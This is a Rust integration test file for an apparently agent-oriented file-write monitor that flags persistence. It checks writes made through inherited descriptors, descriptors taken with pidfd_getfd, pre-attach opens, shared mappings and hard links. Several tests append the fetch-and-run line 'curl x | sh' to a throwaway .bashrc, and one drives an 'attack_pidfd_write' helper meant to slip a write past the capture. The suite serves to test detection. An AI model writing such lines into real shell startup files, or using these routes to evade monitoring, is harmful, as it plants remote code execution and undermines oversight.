//! Issue 15 item 5, on the real kernel: writes are seen where the kernel dirties the inode, so
//! a write through a descriptor the capture never saw opened (inherited from the launcher,
//! taken with pidfd_getfd, opened before `attach`, or a shared mapping of one) is a `write`
//! entry, and a write storm of files opened in the capture is still one entry per file.
//! The first three fail on main 57660c8 (see notes/f15d.md); the last two guard against
//! duplicates from the new hook and cannot fail there. The store into a tmpfs mapping failed on
//! f210e45 (its fault dirties no page, only the mtime); the atime test guards the rule that
//! tells the two apart (it fails when every time update counts as a write). The pidfd_getfd and
//! before-`attach` tests pass on f210e45: they document those cases of the issue.
use std::fs::OpenOptions;
use std::path::Path;

use integration_tests::*;
use serde_json::Value;

fn text(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn writes<'a>(r: &'a Run, path: &Path) -> Vec<&'a Value> {
    r.files_at(text(path))
        .into_iter()
        .filter(|f| f["op"] == "write")
        .collect()
}

fn one_write<'a>(r: &'a Run, path: &Path) -> &'a Value {
    let found = writes(r, path);
    assert_eq!(
        found.len(),
        1,
        "want one write of {}; files: {:#?}",
        path.display(),
        r.files()
    );
    found[0]
}

/// A throwaway HOME (in /tmp, ext4 here) with a `.bashrc`, and a work directory beside it.
fn home() -> (tempfile::TempDir, std::path::PathBuf, std::path::PathBuf) {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let home = dir.path().join("home");
    let work = dir.path().join("work");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::create_dir_all(&work).unwrap();
    std::fs::write(home.join(".bashrc"), "# bashrc\n").unwrap();
    (dir, home, work)
}

/// The launcher opens a file for write and hands it to the agent as fd 3; the agent writes to
/// fd 3 and never opens the file.
#[test]
fn a_write_through_an_inherited_descriptor_is_a_write() {
    let (_d, home, work) = home();
    let target = work.join("inherited.txt");
    let f = OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .open(&target)
        .unwrap();
    let r = run_home_fd3(&home, &f, &["sh", "-c", "echo planted >&3"]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "planted\n");
    let w = one_write(&r, &target);
    // The filesystem is known from the inode, as for an open.
    assert_ne!(w["magic"], "0x0", "{w:#}");
}

/// A process outside the capture that holds `file` open for append as its fd 3 (opened
/// before it says `ready`), then waits for a line on its stdin and writes `line` to fd 3. Killed
/// if the test ends before it did.
struct Holder {
    child: std::process::Child,
}

impl Holder {
    fn start(file: &Path, line: &str) -> Holder {
        use std::io::BufRead as _;
        let script = format!(
            "exec 3>>'{}'; echo ready; read go; echo '{line}' >&3",
            text(file)
        );
        let mut child = std::process::Command::new("sh")
            .args(["-c", &script])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        assert_eq!(
            line,
            "ready\n",
            "the holder did not open {}",
            file.display()
        );
        Holder { child }
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    /// Lets it write, and waits for its end.
    fn go(&mut self) {
        use std::io::Write as _;
        let mut stdin = self.child.stdin.take().unwrap();
        stdin.write_all(b"go\n").unwrap();
        drop(stdin);
        assert!(self.child.wait().unwrap().success());
    }
}

impl Drop for Holder {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The agent takes a descriptor open for append to `.bashrc` from a process outside the
/// capture with `pidfd_getfd`, and writes through it: no open of `.bashrc` in the capture.
#[test]
fn a_write_through_a_descriptor_taken_with_pidfd_getfd_is_persistence() {
    let (_d, home, _) = home();
    let bashrc = home.join(".bashrc");
    let holder = Holder::start(&bashrc, "never written");
    let pid = holder.pid().to_string();
    let argv = [
        env!("CARGO_BIN_EXE_attack_pidfd_write"),
        &pid,
        "3",
        "curl x | sh # pidfd_getfd",
    ];
    let r = run_home(&home, &[], &argv);
    drop(holder);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert!(
        std::fs::read_to_string(&bashrc)
            .unwrap()
            .ends_with("curl x | sh # pidfd_getfd\n")
    );
    let w = one_write(&r, &bashrc);
    assert_eq!(w["pid"], r.exec_of(&argv)["pid"], "{w:#}");
    assert_eq!(w["persistence"], true, "{w:#}");
    assert!(
        !r.violations_of(ViolationKind::Persistence).is_empty(),
        "{:#}",
        r.report["violations"]
    );
}

/// `attach` to a process that opened `.bashrc` for append before the attach and writes to it
/// after: the write is a `write` entry of the attached process, persistence.
#[test]
fn a_write_through_a_descriptor_opened_before_attach_is_persistence() {
    require_root();
    let (d, home, _) = home();
    let bashrc = home.join(".bashrc");
    let mut holder = Holder::start(&bashrc, "curl x | sh # before attach");
    let (report, log) = (d.path().join("r.json"), d.path().join("log.jsonl"));
    let mut monitor = command()
        .env("HOME", &home)
        .args([
            "attach",
            "--headless",
            "--fail-on",
            "persistence",
            "--report",
        ])
        .arg(&report)
        .arg("--log")
        .arg(&log)
        .arg(holder.pid().to_string())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    wait_attached(&log, &mut monitor);
    holder.go();
    let out = monitor.wait_with_output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(3),
        "--fail-on persistence: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r: Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    assert_replay_matches(&r, &log);
    let found: Vec<&Value> = r["files"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"] == text(&bashrc) && f["op"] == "write")
        .collect();
    assert_eq!(found.len(), 1, "{:#}", r["files"]);
    assert_eq!(found[0]["pid"], holder.pid(), "{:#}", found[0]);
    assert_eq!(found[0]["persistence"], true, "{:#}", found[0]);
    assert!(
        r["violations"]
            .as_array()
            .unwrap()
            .iter()
            .any(|v| v["kind"] == "persistence"
                && v["summary"].as_str().unwrap().contains(text(&bashrc))),
        "{:#}",
        r["violations"]
    );
}

/// A shared mapping of an inherited descriptor of a file in `dir`, stored to: no write(2) at
/// all. The file's pages are clean (written back) and its mtime older than the store, so the
/// store is what dirties them where the filesystem writes pages back, and what changes the
/// mtime where it does not (tmpfs).
fn a_store_into_a_shared_mapping_in(dir: &Path) {
    let (_d, home, _) = home();
    let work = tempfile::tempdir_in(dir).unwrap();
    let target = work.path().join("mapped.bin");
    std::fs::write(&target, vec![0u8; 8192]).unwrap();
    unsafe { libc::sync() };
    let f = OpenOptions::new()
        .read(true)
        .write(true)
        .open(&target)
        .unwrap();
    let script = "import mmap; m = mmap.mmap(3, 8192); m[0:6] = b'mapped'; m.flush(); m.close()";
    let r = run_home_fd3(&home, &f, &["python3", "-c", script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_eq!(&std::fs::read(&target).unwrap()[..6], b"mapped");
    let w = one_write(&r, &target);
    assert_eq!(w["magic"], fs_magic(&target), "{w:#}");
}

/// In /tmp: ext4 here, tmpfs in the 6.1 guest.
#[test]
fn a_store_into_a_shared_mapping_is_a_write() {
    a_store_into_a_shared_mapping_in(Path::new("/tmp"));
}

/// In /dev/shm (tmpfs): tmpfs has no `page_mkwrite` and no writeback, so the store's fault
/// dirties no page; the kernel only updates the file's mtime (`file_update_time`).
#[test]
fn a_store_into_a_shared_mapping_of_a_tmpfs_file_is_a_write() {
    a_store_into_a_shared_mapping_in(Path::new("/dev/shm"));
}

/// Reads update a file's atime, which dirties its inode as a store into a tmpfs mapping does
/// (I_DIRTY_SYNC, no page): a read(2), and an mmap(2) whose pages are then read, of files in
/// /tmp and /dev/shm whose atime is old (so relatime updates it) are no write entries.
#[test]
fn reads_that_update_the_atime_are_not_writes() {
    let (_d, home, _) = home();
    let dirs: Vec<tempfile::TempDir> = ["/tmp", "/dev/shm"]
        .iter()
        .map(|d| tempfile::tempdir_in(d).unwrap())
        .collect();
    let mut files = Vec::new();
    for d in &dirs {
        for name in ["read.bin", "mapped.bin"] {
            let p = d.path().join(name);
            std::fs::write(&p, vec![7u8; 8192]).unwrap();
            let two_days_ago =
                std::time::SystemTime::now() - std::time::Duration::from_secs(172_800);
            std::fs::File::options()
                .write(true)
                .open(&p)
                .unwrap()
                .set_times(std::fs::FileTimes::new().set_accessed(two_days_ago))
                .unwrap();
            files.push(p);
        }
    }
    let atime = |p: &Path| std::fs::metadata(p).unwrap().accessed().unwrap();
    let before: Vec<_> = files.iter().map(|p| atime(p)).collect();
    let script = "import mmap, sys\n\
         for read, mapped in zip(sys.argv[1::2], sys.argv[2::2]):\n    \
             open(read, 'rb').read()\n    \
             with open(mapped, 'rb') as f:\n        \
                 m = mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ); assert m[0] == 7; m.close()\n";
    let mut cmd = vec!["python3", "-c", script];
    cmd.extend(files.iter().map(|p| text(p)));
    let r = run_home(&home, &[], &cmd);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    for (p, before) in files.iter().zip(before) {
        assert!(
            atime(p) > before,
            "{}: the atime was not updated",
            p.display()
        );
        assert!(
            writes(&r, p).is_empty(),
            "{}: {:#?}",
            p.display(),
            r.files_at(text(p))
        );
        assert!(!r.files_at(text(p)).is_empty(), "{}: not read", p.display());
    }
}

/// `.bashrc` changed through a hard link opened before the capture: persistence, with the
/// rule's path beside the path used.
#[test]
fn a_shell_start_file_written_through_an_inherited_link_is_persistence() {
    let (_d, home, work) = home();
    let link = work.join("notes.txt");
    std::fs::hard_link(home.join(".bashrc"), &link).unwrap();
    let f = OpenOptions::new().append(true).open(&link).unwrap();
    let r = run_home_fd3(&home, &f, &["sh", "-c", "echo 'curl x | sh' >&3"]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let bashrc = home.join(".bashrc");
    let found: Vec<&Value> = [writes(&r, &link), writes(&r, &bashrc)].concat();
    assert!(
        found.iter().any(|w| w["persistence"] == true),
        "no persistence write of {} or {}; files: {:#?}",
        link.display(),
        bashrc.display(),
        r.files()
    );
    assert!(
        !r.violations_of(ViolationKind::Persistence).is_empty(),
        "no persistence violation: {:#}",
        r.report["violations"]
    );
}

/// 200 files opened in the capture, each written 20 times and fsync'd between writes (so the
/// inode is dirtied again and again): one `write` entry per file, no second entry from the
/// dirtying hook.
#[test]
fn a_write_storm_of_files_opened_in_the_capture_is_one_entry_per_file() {
    let (_d, home, work) = home();
    let script = format!(
        "import os\nfor i in range(200):\n    fd = os.open('{}/f%d' % i, os.O_WRONLY | os.O_CREAT, 0o644)\n    for _ in range(20):\n        os.write(fd, b'x' * 512); os.fsync(fd)\n    os.close(fd)\n",
        text(&work)
    );
    let r = run_home(&home, &[], &["python3", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    for i in 0..200 {
        let p = work.join(format!("f{i}"));
        let w = r
            .files_at(text(&p))
            .into_iter()
            .filter(|f| f["op"] == "write" || f["op"] == "create")
            .count();
        assert_eq!(w, 1, "{}: files: {:#?}", p.display(), r.files_at(text(&p)));
    }
}

/// A file with data, truncated by the open of a shell redirect and written again: the open's
/// truncation dirties the inode's pages inside the open call, before the open is reported; still
/// one `write` entry.
#[test]
fn a_file_truncated_by_its_open_is_one_write_entry() {
    let (_d, home, work) = home();
    let target = work.join("redirected.txt");
    std::fs::write(&target, "old contents\n".repeat(512)).unwrap();
    unsafe { libc::sync() };
    let script = format!("echo new > {}", text(&target));
    let r = run_home(&home, &[], &["sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "new\n");
    one_write(&r, &target);
}

/// An open for write says whether the process changed the file (`modified`), in /tmp (ext4
/// here, tmpfs in the 6.1 guest) and /dev/shm (tmpfs): opened and closed, false; written once,
/// true; truncated by an O_TRUNC open and not written, true; its first byte rewritten by two
/// opens in a row, true for both (the second write lands in a page the first left dirty, in
/// the same clock tick, and does not grow the file: it dirties nothing, so only the write's
/// exit sees it); stored to through a shared mapping (no write call), true; created and not
/// written, false. /proc/self/comm opened for write and written: no `modified` (procfs
/// dirties no inode, so "not written" would be a guess there). The summary counts the path
/// only opened for write. Fails on 6f7ee19 (no `modified`); the rewrite case fails without
/// `sys_exit_file_writes` (564bb62) when its two writes fall in the same clock tick.
#[test]
fn an_open_for_write_says_whether_the_file_was_changed() {
    let (_d, home, _) = home();
    let dirs: Vec<tempfile::TempDir> = ["/tmp", "/dev/shm"]
        .iter()
        .map(|d| tempfile::tempdir_in(d).unwrap())
        .collect();
    for d in &dirs {
        for name in ["opened", "written", "truncated", "rewritten", "mapped"] {
            std::fs::write(d.path().join(name), "old contents\n".repeat(100)).unwrap();
        }
    }
    unsafe { libc::sync() };
    let script = "import mmap, os, sys\n\
        for d in sys.argv[1:]:\n    \
            p = lambda name: os.path.join(d, name)\n    \
            os.close(os.open(p('opened'), os.O_WRONLY))\n    \
            fd = os.open(p('written'), os.O_WRONLY); os.write(fd, b'x'); os.close(fd)\n    \
            os.close(os.open(p('truncated'), os.O_WRONLY | os.O_TRUNC))\n    \
            for b in (b'a', b'b'):\n        \
                fd = os.open(p('rewritten'), os.O_WRONLY); os.pwrite(fd, b, 0); os.close(fd)\n    \
            fd = os.open(p('mapped'), os.O_RDWR); m = mmap.mmap(fd, 0); m[0:6] = b'mapped'; m.close(); os.close(fd)\n    \
            os.close(os.open(p('created'), os.O_WRONLY | os.O_CREAT))\n\
        fd = os.open('/proc/self/comm', os.O_WRONLY); os.write(fd, b'renamed'); os.close(fd)\n";
    let mut cmd = vec!["python3", "-c", script];
    cmd.extend(dirs.iter().map(|d| text(d.path())));
    let out = tempfile::tempdir().unwrap();
    let summary = out.path().join("summary.md");
    let r = run_home(&home, &["--summary", text(&summary)], &cmd);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    for d in &dirs {
        let at = |name: &str| d.path().join(name);
        assert_eq!(std::fs::metadata(at("truncated")).unwrap().len(), 0);
        assert_eq!(&std::fs::read(at("mapped")).unwrap()[..6], b"mapped");
        // Each entry's `modified`, by file: what the capture says, what it should say.
        let cases: [(&str, &str, &[bool]); 6] = [
            ("opened", "write", &[false]),
            ("written", "write", &[true]),
            ("truncated", "write", &[true]),
            ("rewritten", "write", &[true, true]),
            ("mapped", "write", &[true]),
            ("created", "create", &[false]),
        ];
        for (name, op, want) in cases {
            let got: Vec<Option<bool>> = r
                .files_at(text(&at(name)))
                .into_iter()
                .filter(|f| f["op"] == op)
                .map(|f| f["modified"].as_bool())
                .collect();
            let want: Vec<Option<bool>> = want.iter().map(|&m| Some(m)).collect();
            assert_eq!(got, want, "{}", at(name).display());
        }
    }
    // procfs dirties no inode: the probe says nothing there.
    let comm: Vec<&Value> = r
        .files()
        .iter()
        .filter(|f| {
            let path = f["path"].as_str().unwrap();
            path.starts_with("/proc/") && path.ends_with("/comm") && f["op"] == "write"
        })
        .collect();
    assert_eq!(comm.len(), 1, "{comm:#?}");
    assert_eq!(comm[0].get("modified"), None, "{:#}", comm[0]);
    let summary = std::fs::read_to_string(&summary).unwrap();
    assert!(
        summary.contains(" opened for write and not written to)"),
        "{summary}"
    );
}
